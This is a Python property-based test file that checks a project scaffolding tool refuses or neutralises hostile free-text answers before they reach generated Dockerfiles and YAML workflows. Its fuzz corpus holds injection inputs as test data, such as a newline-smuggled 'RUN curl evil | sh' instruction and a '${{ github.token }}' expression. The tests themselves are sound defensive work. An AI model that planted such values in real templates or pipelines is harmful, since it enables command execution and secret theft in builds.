"""Property-based tests over the free-text answers (hypothesis).

For any string given to a free-text question, scaffold either refuses it with a one-line message
that names the question, or renders files whose structure is the structure the default answer
gives: the same Dockerfile instructions, the same YAML keys in every YAML file. An answer can
change a value; it can never add a line, an instruction, a step, a key or an expression.
The question list and the context each question needs come from copier.yml.
"""

from __future__ import annotations

import functools
import re
import subprocess
import tempfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from scaffold.answers import resolve
from scaffold.errors import InvalidAnswer

from helpers import (
    REPO,
    combinations,
    dockerfile_instructions,
    hadolint_findings,
    lint_workflows,
    pipelines,
    questionnaire,
    render,
)

# Examples per question: 60 (profile `bounded`); `pytest --hypothesis-profile long` runs 1000.

# What breaks generated files: line breaks, quotes, YAML and shell syntax, GitHub expressions.
NASTY = [
    "\n",
    "\r",
    "\t",
    " ",
    '"',
    "'",
    "`",
    "$",
    "${{",
    "}}",
    "#",
    ":",
    ": ",
    "- ",
    "{",
    "}",
    "[",
    "]",
    "&",
    "*",
    "!",
    "|",
    ">",
    "%",
    "@",
    "\\",
    ";",
    "\x00",
    "\u2028",
    "é",
]


def _question(name: str) -> Any:
    return next(q for q in questionnaire() if q.name == name)


def _free_text() -> list[str]:
    return [q.name for q in questionnaire() if not q.choices and q.type in {"str", "int"}]


# Free-text answers asked only once another free-text answer has a value: that answer and value,
# and the language the answer is for.
PREREQUISITES = {
    "workspace_package": ("workspace_member", "backend", "python"),
    "workspace_builds": ("workspace_member", "apps/api", "node"),
}


@functools.cache
def _context(name: str) -> dict[str, Any]:
    """The choice answers of the first enumerated answer set in which question NAME is asked
    (every other free-text answer takes its default, which may follow from NAME)."""
    chosen = {q.name for q in questionnaire() if q.choices or q.type == "bool"}
    asked, value, language = PREREQUISITES.get(name, (name, None, None))
    for answers in [*combinations(), *combinations(include_app=False), *pipelines()]:
        if asked in answers and answers["language"] == (language or answers["language"]):
            context = {k: v for k, v in answers.items() if k in chosen}
            return context if value is None else {**context, asked: value}
    raise AssertionError(f"no combination asks {name}")


def _shape(folder: Path, answer: str | None) -> dict[str, Any]:
    """What must not change with a free-text answer: Dockerfile instructions, YAML key paths (a
    key named after the answer, like compose's `svc` and `svc-prod`, stands as <answer>...)."""
    shape: dict[str, Any] = {}
    dockerfile = folder / "Dockerfile"
    shape["Dockerfile"] = [ins for ins, _ in dockerfile_instructions(dockerfile.read_text())]
    for path in sorted(folder.rglob("*")):
        if path.suffix in {".yml", ".yaml"} and path.is_file():
            data = yaml.safe_load(path.read_text())
            shape[str(path.relative_to(folder))] = _keys(data, answer)
    return shape


def _keys(data: Any, answer: str | None, prefix: str = "") -> list[str]:
    if isinstance(data, dict):
        found = []
        for key, value in data.items():
            named = answer is not None and (str(key) == answer or str(key).startswith(answer + "-"))
            shown = "<answer>" + str(key)[len(answer) :] if named else key
            path = f"{prefix}/{shown}"
            found += [path, *_keys(value, answer, path)]
        return found
    if isinstance(data, list):
        return [k for i, value in enumerate(data) for k in _keys(value, answer, f"{prefix}[{i}]")]
    return []


# Answers whose default repeats project_name without naming anything after themselves: the
# compose keys named after the project are not theirs.
NAMES_NOTHING = {"workspace_package"}


@functools.cache
def _default_shape(name: str) -> dict[str, Any]:
    answers = resolve(questionnaire(), _context(name), folder_name="svc", ask=None)
    named = None if name in NAMES_NOTHING else str(answers[name])
    with tempfile.TemporaryDirectory() as scratch:
        return _shape(render(answers, Path(scratch, "svc")), named)


def _near(name: str) -> st.SearchStrategy[str]:
    """The default answer with nasty text put somewhere in it, or any text at all."""
    default = str(resolve(questionnaire(), _context(name), folder_name="svc", ask=None)[name])
    spliced = st.builds(
        lambda at, bad, tail: default[:at] + bad + default[at:] + tail,
        st.integers(0, len(default)),
        st.sampled_from(NASTY),
        st.sampled_from(["", "\n", "\nRUN id", "\n  injected: true", " #x"]),
    )
    return st.one_of(spliced, st.text(max_size=40))


# Answers that add structure by design: each folder in writable_paths gets its `mkdir` argument,
# volume and .dockerignore line, a service_dir other than `.` gets the workflow's path filters, a
# workspace_member builds from the workspace root with the member's manifest mounted, and the
# packages in workspace_builds build first.
# How many items there are may change the structure; what they say may not: the files must have
# the structure plain items of the same number give (compose's volumes are named after them).
def _plain(name: str, value: str) -> str:
    if name == "service_dir":
        return value if value == "." else "folder"
    if name == "workspace_member":
        return value and "member"
    items = dict.fromkeys(item.strip("/") for item in value.split())
    return " ".join(f"p{number}" for number in range(len(items)))


STRUCTURAL = {
    "writable_paths": _plain,
    "service_dir": _plain,
    "workspace_member": _plain,
    "workspace_builds": _plain,  # one build of each package, before the service's
}


def _volumes_unnamed(shape: dict[str, Any]) -> dict[str, Any]:
    """SHAPE with compose's top-level volume keys (named after the folders) made one name."""
    return {
        name: [re.sub(r"^/volumes/.*", "/volumes/<volume>", key) for key in keys]
        if name == "compose.yaml"
        else keys
        for name, keys in shape.items()
    }


def _refused_in_one_line_or_same_structure(name: str, value: str) -> None:
    try:
        answers = resolve(
            questionnaire(), {**_context(name), name: value}, folder_name="svc", ask=None
        )
    except InvalidAnswer as refused:
        message = str(refused)
        assert "\n" not in message and message.startswith(name), message
        return
    with tempfile.TemporaryDirectory() as scratch:
        shape = _shape(render(answers, Path(scratch, "svc")), None)
    expected = _default_shape(name)
    if name in STRUCTURAL:
        plain = {**answers, name: STRUCTURAL[name](name, str(answers[name]))}
        with tempfile.TemporaryDirectory() as scratch:
            expected = _volumes_unnamed(_shape(render(plain, Path(scratch, "svc")), None))
        shape = _volumes_unnamed(shape)
    assert _same(expected, shape, str(answers[name])), (
        f"{name}={value!r} changed the files' structure"
    )


def _same(default: dict[str, Any], shape: dict[str, Any], answer: str) -> bool:
    """Whether SHAPE (keys as written) is DEFAULT's, where DEFAULT's `<answer>` keys are ANSWER.

    Comparing position by position keeps an answer that happens to be a key the files already
    use (`id`, `image`) from being taken for the answer's own keys."""
    if default.keys() != shape.keys() or default["Dockerfile"] != shape["Dockerfile"]:
        return False
    for name, paths in default.items():
        if name == "Dockerfile":
            continue
        if len(paths) != len(shape[name]):
            return False
        for expected, actual in zip(paths, shape[name], strict=True):
            expected_parts, actual_parts = expected.split("/"), actual.split("/")
            if len(expected_parts) != len(actual_parts):
                return False
            for want, got in zip(expected_parts, actual_parts, strict=True):
                named = want.startswith("<answer>") and got == answer + want[len("<answer>") :]
                if want != got and not named:
                    return False
    return True


@pytest.mark.parametrize("name", _free_text())
@settings(suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_a_free_text_answer_is_refused_in_one_line_or_changes_no_structure(
    name: str, data: st.DataObject
) -> None:
    _refused_in_one_line_or_same_structure(name, data.draw(_near(name), label=name))


# The corpus: what hypothesis found, and what an attacker tries first, for every question.
CORPUS = [
    "x\n",  # `$` in a validator regex matched before a final newline (fixed: \\Z)
    "no",  # a YAML 1.1 boolean as compose's service name (fixed: yaml_str)
    "null",
    "svc\nRUN curl evil | sh",
    "${{ github.token }}",
    "svc: {x: 1}",
    "svc\r\n  injected: true",
]


@pytest.mark.parametrize("value", CORPUS)
@pytest.mark.parametrize("name", _free_text())
def test_the_corpus_is_refused_or_inert(name: str, value: str) -> None:
    _refused_in_one_line_or_same_structure(name, value)


_FOLDER = r"[A-Za-z0-9][A-Za-z0-9_.-]*(/[A-Za-z0-9_][A-Za-z0-9_.-]*)*/?"
# Where the default context narrows the validator's grammar: Python versions are 3.x, a Docker
# Hub image is namespace/name, the entry point is gunicorn's module:variable.
NARROWER = {
    "entrypoint": r"[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)*:[A-Za-z_][A-Za-z0-9_]*",
    "language_version": r"3\.[0-9]{1,3}",
    "image": r"[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*/[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*",
    # The validator checks each space-separated folder.
    "writable_paths": rf"({_FOLDER}( {_FOLDER}){{0,3}})?",
}


def _pattern(name: str) -> str:
    """The regex the question's validator requires of the whole answer."""
    if name in NARROWER:
        return NARROWER[name]
    found = re.search(rf"{name} \| regex_search\('(.+?)'\)", _question(name).validator)
    assert found, f"{name} has no regex in its validator"
    return found.group(1).replace("\\\\", "\\").replace("\\Z", "")


@pytest.mark.parametrize("name", [n for n in _free_text() if _question(n).type == "str"])
@settings(max_examples=8, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_any_valid_free_text_answer_renders_files_the_linters_pass(
    name: str, data: st.DataObject
) -> None:
    """Answers drawn from the validator's own grammar: hadolint, actionlint and zizmor find
    nothing, and every YAML file still loads."""
    value = data.draw(st.from_regex(_pattern(name), fullmatch=True), label=name)
    try:
        answers = resolve(
            questionnaire(), {**_context(name), name: value}, folder_name="svc", ask=None
        )
    except InvalidAnswer:
        assume(False)  # valid by the regex, refused by another rule (length, registry host)
        return
    with tempfile.TemporaryDirectory() as scratch:
        folder = render(answers, Path(scratch, "svc"))
        for path in folder.rglob("*.y*ml"):
            yaml.safe_load(path.read_text())
        assert _lint_output(folder) == [], f"{name}={value!r}"


def _lint_output(folder: Path) -> list[str]:
    findings = [f"hadolint: {found}" for found in [hadolint_findings(folder)] if found]
    workflow = folder / ".github/workflows/docker-publish.yml"
    if workflow.exists():
        findings += lint_workflows({workflow.read_text()})[workflow.read_text()]
    return findings


@functools.cache
def _macros() -> Any:
    """templates/macros.jinja as the template renders it (Copier's regex_search filter)."""
    return questionnaire().env.from_string((REPO / "templates/macros.jinja").read_text()).module


@given(value=st.text(alphabet=st.characters(max_codepoint=0xFFFF), max_size=40))
def test_yaml_str_reads_back_as_the_same_string(value: str) -> None:
    """For any text, the YAML emitted for it loads back as exactly that text. (Outside the Basic
    Multilingual Plane JSON escapes a surrogate pair, which YAML 1.1 readers do not join; the
    validators admit ASCII only.)"""
    emitted = str(_macros().yaml_str(value))
    assert "\n" not in emitted
    assert yaml.safe_load(f"key: {emitted}\n") == {"key": value}


@given(
    value=st.text(
        alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"),
        max_size=40,
    )
)
def test_sh_quote_is_one_word_for_the_shell(value: str) -> None:
    """For any text (a shell argument cannot hold NUL), sh_quote gives the shell that one word."""
    quoted = str(_macros().sh_quote(value))
    shown = subprocess.run(
        ["sh", "-c", f"printf '%s' {quoted}"], capture_output=True, check=True
    ).stdout
    assert shown == value.encode()
